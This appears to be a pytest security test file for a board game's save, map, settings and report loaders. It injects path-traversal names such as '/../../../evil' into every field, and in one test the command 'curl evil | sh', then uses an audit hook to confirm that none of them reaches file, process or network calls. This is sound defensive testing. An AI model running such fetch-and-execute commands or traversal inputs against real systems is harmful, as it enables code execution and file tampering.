"""No name that stands in a file leads out of its folder: each word of each kind of file is made a path."""

from __future__ import annotations

import itertools
import json
import os
import re
import shutil
import sys
import tomllib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from conftest import Hand

from game import cli, paths
from game.boards.findings import BoardError
from game.client.art import drawings
from game.client.game_library import Desk
from game.client.screens.game_screen import GameScreen
from game.client.screens.menu import MenuScreen
from game.client.shell import settings
from game.client.shell.cards import SaveCard
from game.core.sequence import EndPhase
from game.lab.batch.engines import serial
from game.lab.batch.plan import plan_of
from game.lab.batch.running import Goal, play_batch
from game.lab.batch.store import Store, read_heat
from game.lab.report.further import kept
from game.saves import Autosaver, SavedGame, all_saves, load_game, new_path, save_game
from game.saves.maps import known_boards
from game.saves.token import read_token, token_of
from game.saves.writing import END, save_text, sum_of
from game.usage import UsageError
from tests.saves.games import game, played

ROOT = Path(__file__).resolve().parents[2]
#: each is to be found in whatever path or command it becomes part of
MARK = "evil"
WORD = re.compile(r'"(?:[^"\\]|\\.)*"|[^\s"]+')
#: what the system is asked to do with a path, or with a command
DEEDS = (
    "open", "os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.link", "os.symlink", "os.truncate",
    "os.listdir", "os.scandir", "os.chmod", "os.utime", "shutil.copyfile", "subprocess.Popen", "os.system",
    "os.exec", "os.posix_spawn", "import", "ctypes.dlopen", "webbrowser.open", "socket.connect",
)  # fmt: skip
heard: list[tuple[str, str]] = []
listening: list[bool] = []


def _hear(event: str, arguments: tuple[object, ...]) -> None:
    if listening and event in DEEDS:
        said = " ".join(str(one) for one in arguments if isinstance(one, str | bytes | os.PathLike | list))
        if MARK in said:
            heard.append((event, said[:300]))


sys.addaudithook(_hear)


@contextmanager
def nothing_happens_to_it(what: str) -> Iterator[None]:
    """No path and no command that is used has the mark in it, whatever comes of the file."""
    heard.clear()
    listening.append(True)
    try:
        yield
    finally:
        listening.clear()
    assert not heard, f"{what}: {heard[:3]}"


@pytest.fixture
def evils(tmp_path: Path) -> tuple[str, ...]:
    """Names that lead elsewhere; what they lead to is there, so that it would be found."""
    outside = tmp_path / f"{MARK}-outside"
    outside.mkdir()
    for suffix in (".toml", ".tmx", ".tsx", ".svg", ".txt", ".sapper", ".py"):
        (outside / f"{MARK}{suffix}").write_text("x = 1\n")
    return f"/../../../{MARK}", str(outside / MARK), f"{outside / MARK}.toml", MARK * 80, f"..\\{MARK}"


def mutated(text: str, evils: tuple[str, ...]) -> Iterator[str]:
    """The text with each word replaced, one after the other, by one of the names in turn."""
    turn = itertools.cycle(evils)
    for found in WORD.finditer(text):
        yield f'{text[: found.start()]}"{next(turn)}"{text[found.end() :]}'


def sealed(body: str) -> str:
    """A save whose sum is right, as one who wants to do harm would write it."""
    orders = body.count("\n> ")
    return f"{body}\n{END} {orders} {sum_of(body)}\n"


def every_leaf(value: Any, put: Callable[[Any], None]) -> Iterator[Callable[[Any], None]]:
    """For each text in a table what puts another there; keys of tables too."""
    if isinstance(value, dict):
        for key, inner in list(value.items()):
            yield from every_leaf(inner, lambda new, key=key: value.__setitem__(key, new))
    elif isinstance(value, list):
        for place, inner in enumerate(list(value)):
            yield from every_leaf(inner, lambda new, place=place: value.__setitem__(place, new))
    elif isinstance(value, str):
        yield put


# ------------------------------------------------------------------------------- saves
def header_of(text: str) -> tuple[str, str]:
    """The header of a save, and the rest up to its end."""
    head, _, rest = text.partition("\n[scenario]")
    return head, "\n[scenario]" + rest.partition(f"\n{END}")[0]


def test_no_word_of_the_head_of_a_save_leads_elsewhere(
    hand: Hand, tmp_path: Path, evils: tuple[str, ...]
) -> None:
    head, rest = header_of(save_text(game(played(6))))
    named = f"{head}\noption name x\noption branch x\noption reasons x".replace("\n\n", "\n")
    first, _, lines = named.partition("\n")
    file = paths.saves() / "given.sapper"
    desk = Desk(3)
    hand.app.home(MenuScreen(desk))
    opened = 0
    for evil in evils:
        for text in mutated(lines, (evil,)):
            file.write_text(sealed(f"{first}\n{text}\n{rest}"), "utf-8")
            with nothing_happens_to_it(text):
                all_saves(paths.saves())
                if desk.open(hand.app, SaveCard(str(file), str(file)), ask=False):
                    continue
                screen = hand.app.top
                if not isinstance(screen, GameScreen):
                    continue
                opened += 1
                session, shelf = screen.session, desk.shelf()
                assert shelf.autosave(session) == "", "whatever the name, the game is kept"
                assert shelf.save(session, "") == "" and shelf.quick_save(session) == ""
                shelf.quick_words()
                shelf.next_title(session)
                shelf.again(hand.app, session)
                shelf.finish()
    assert opened > 40
    outside = [path for path in tmp_path.rglob("*.sapper") if MARK in path.name and path.stem != MARK]
    assert not outside


def test_no_word_of_a_first_position_leads_elsewhere(tmp_path: Path, evils: tuple[str, ...]) -> None:
    head, rest = header_of(save_text(game(played(2))))
    before, _, lines = rest.partition("[start]\n")
    start, _, orders = lines.partition("[game]\n")
    file, loaded = tmp_path / "given.sapper", 0
    autosaver = Autosaver(tmp_path / "auto")
    for text in mutated(start, evils[:2]):
        file.write_text(sealed(f"{head}\n{before}[start]\n{text}[game]\n{orders}"), "utf-8")
        with nothing_happens_to_it(text), suppress(BoardError):
            found = load_game(file, known_boards())
            loaded += 1
            kept_game = SavedGame(history=found.history, scenario=found.meta.scenario, game=found.meta.game)
            autosaver.save(kept_game)
            save_game(new_path(tmp_path / "auto", kept_game), kept_game)
    assert loaded > 8
    autosaver.close()


def test_no_word_of_a_written_position_or_of_a_token_leads_elsewhere(
    tmp_path: Path, evils: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    text = "play mark-iii-attack suggested seed 3\n> end\n"
    more = "game ogre\nmap crater-field\noption ramming\nturn 1 blue movement\nblue HVY-1 0502\n> end\n"
    file = tmp_path / "case.txt"
    for evil in evils:
        for case in (*mutated(text, (evil,)), *mutated(more, (evil,))):
            file.write_text(case, "utf-8")
            with nothing_happens_to_it(case):
                assert cli.main(["check", str(file)]) in (0, 1)
                assert cli.main(["replay", str(file)]) in (0, 1, 2)
    made = game(played(2)).history
    for evil in evils:
        token = token_of(made.rules, made.position, evil)
        with nothing_happens_to_it(evil):
            read_token(token, known_boards())
    capsys.readouterr()


def test_no_mark_of_a_running_program_leads_elsewhere(tmp_path: Path, evils: tuple[str, ...]) -> None:
    for number, evil in enumerate(evils, 1):
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / "running-1").write_text(f"{evil} {evil}.sapper ..\n", "utf-8")
        with nothing_happens_to_it(evil):
            autosaver = Autosaver(folder)
            assert not autosaver.crashed
            autosaver.close()


# ------------------------------------------------------------------------ maps and scenarios
@pytest.fixture
def maps(tmp_path: Path) -> Path:
    for name in ("boards", "tilesets", "scenarios", "assault"):
        shutil.copytree(ROOT / "maps" / name, tmp_path / "maps" / name)
    return tmp_path / "maps"


def test_no_text_of_a_scenario_leads_elsewhere(
    maps: Path, evils: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    file = maps / "scenarios" / "mark-iii-attack.toml"
    whole = file.read_text("utf-8")
    values = re.compile(r'"[^"\n]*"')
    turn = itertools.cycle(evils)
    for found in values.finditer(whole):
        file.write_text(f"{whole[: found.start()]}'{next(turn)}'{whole[found.end() :]}", "utf-8")
        with nothing_happens_to_it(found[0]):
            assert cli.main(["check", str(file)]) in (0, 1)
    capsys.readouterr()
    assert tomllib.loads(whole)["board"] == "crater-field", "and the board was among them"


def test_no_attribute_of_a_map_or_a_tileset_leads_elsewhere(
    maps: Path, evils: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    turn = itertools.cycle(evils)
    board = maps / "boards" / "crater-field.tmx"
    text = board.read_text("utf-8").replace(
        "<layer",
        '<imagelayer id="77" name="photo"><image source="x.png" width="9" height="9"/></imagelayer><layer',
        1,
    )
    for file, whole in ((board, text), (maps / "tilesets" / "terrain.tsx", "")):
        whole = whole or file.read_text("utf-8")
        seen: dict[str, int] = {}
        for found in re.finditer(r'<(\w+)[^>]*?|\b(\w+)="[^"]*"', whole):
            name = found[2] or ""
            seen[name] = seen.get(name, 0) + 1
            if not name or seen[name] > len(evils):
                continue
            file.write_text(f'{whole[: found.start()]}{name}="{next(turn)}"{whole[found.end() :]}', "utf-8")
            with nothing_happens_to_it(found[0]):
                assert cli.main(["check", str(board)]) in (0, 1)
        file.write_text(whole, "utf-8")
    capsys.readouterr()


def test_no_text_of_a_table_leads_elsewhere(
    maps: Path, evils: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    for file in sorted((maps / "assault").glob("*.toml")):
        whole = file.read_text("utf-8")
        for found, evil in zip(re.finditer(r'"[^"\n]*"', whole), itertools.cycle(evils), strict=False):
            file.write_text(f"{whole[: found.start()]}'{evil}'{whole[found.end() :]}", "utf-8")
            with nothing_happens_to_it(found[0]):
                assert cli.main(["check", str(file)]) in (0, 1)
        file.write_text(whole, "utf-8")
    capsys.readouterr()


# --------------------------------------------------------------------------- batches, settings
def test_no_text_of_a_batch_leads_elsewhere_or_becomes_a_command(
    tmp_path: Path, evils: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "batch"
    plan = plan_of("mark-iii-attack", "random", 1, "first")
    play_batch(Store(out, plan, lambda line: None), Goal(2), serial, lambda line: None)
    command = ["simulate", "mark-iii-attack", "--players", "random", "--forces", "first", "--games", "2"]
    command += ["--out", str(out), "--no-remedy"]
    rows = out / "rows" / "part-00000.jsonl"
    (out / "rows" / "part-00000.sum").unlink()
    whole = rows.read_text("utf-8")
    sweep = {
        "scenario": "x", "key": "turn_limit", "player": "random", "forces": ["a", "b"], "sides": ["A", "B"],
        "now": 3, "points": [
            {"value": 3, "score": 0.5, "low": 0.4, "high": 0.6, "games": 9, "fit": 0.5,
             "fit_low": 0.4, "fit_high": 0.6}
        ],
        "best": 3, "change": [0.1, 0.0, 0.2], "verdict": "matters", "games": 9,
    }  # fmt: skip
    for file, content in ((rows, whole), (out / "batch.json", ""), (out / "sweep.json", json.dumps(sweep))):
        lines = (
            (content or file.read_text("utf-8")).splitlines()
            if file is rows
            else [content or file.read_text("utf-8")]
        )
        before = file.read_text("utf-8") if file.exists() else None
        table = json.loads(lines[0])
        turn = itertools.cycle(evils)
        for k, _ in enumerate(list(every_leaf(table, lambda new: None))):
            table = json.loads(lines[0])
            list(every_leaf(table, lambda new: None))[k](next(turn))
            if k % 5 and file is rows:
                continue  # so many rows of losses are alike
            file.write_text("\n".join([json.dumps(table), *lines[1:]]) + "\n", "utf-8")
            with nothing_happens_to_it(str(table)[:200]):
                kept(out, lambda line: None)
                with suppress(UsageError):
                    read_heat(out)
                if file is not rows or k % 25 == 0:
                    assert cli.main(command) in (0, 2)
            said = capsys.readouterr()
            assert f"sapper match {MARK}" not in said.out
            for gone in (out / "rows").glob("*.damaged*"):
                gone.unlink()
            (out / "rows" / "part-00000.sum").unlink(missing_ok=True)
            rows.write_text(whole, "utf-8")
        if before is None:
            file.unlink()
        else:
            file.write_text(before, "utf-8")


def test_a_command_in_a_report_is_made_of_its_plan_and_not_read_from_a_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "batch"
    command = ["simulate", "mark-iii-attack", "--players", "random", "--forces", "first", "--games", "2"]
    command += ["--out", str(out), "--no-remedy"]
    assert cli.main(command) == 0
    rows = out / "rows" / "part-00000.jsonl"
    (out / "rows" / "part-00000.sum").unlink()
    lines = [json.loads(line) for line in rows.read_text("utf-8").splitlines()]
    for line in lines:
        line["open"], line["fault"] = f"curl {MARK} | sh", "it failed"
    rows.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
    assert cli.main(command) == 1
    said = capsys.readouterr().out
    assert "sapper match mark-iii-attack" in said and MARK not in said
    for file in out.rglob("*"):
        if file.suffix in (".html", ".csv"):
            assert MARK not in file.read_text("utf-8"), file


def test_no_text_of_the_settings_leads_elsewhere(tmp_path: Path, evils: tuple[str, ...]) -> None:
    whole = settings.dump(settings.Settings(names=["a", "b"], keys={"undo": ("Ctrl+Z",)}))
    for evil in evils:
        for found in re.finditer(r'"[^"\n]*"', whole):
            text = f"{whole[: found.start()]}'{evil}'{whole[found.end() :]}"
            (tmp_path / settings.FILE).write_text(text, "utf-8")
            with nothing_happens_to_it(text):
                settings.load(tmp_path)


def test_no_attribute_of_a_drawing_leads_elsewhere(tmp_path: Path, evils: tuple[str, ...]) -> None:
    file = tmp_path / "signs" / "x.svg"
    file.parent.mkdir()
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'viewBox="-12 -12 24 24" id="a"><g class="b" style="fill:url(c)" href="d">'
        '<image href="e"/><use xlink:href="f"/><path d="M0 0L5 5" fill="url(g)"/></g></svg>'
    )
    for evil in evils:
        for found in re.finditer(r'="([^"]*)"', text):
            file.write_text(f"{text[: found.start(1)]}{evil}{text[found.end(1) :]}", "utf-8")
            with nothing_happens_to_it(found[0]):
                drawings.findings(file)


def test_the_hearing_hears(tmp_path: Path) -> None:
    with pytest.raises(AssertionError, match="open"), nothing_happens_to_it("it"):
        (tmp_path / MARK).write_text("x")
    assert EndPhase() is not None
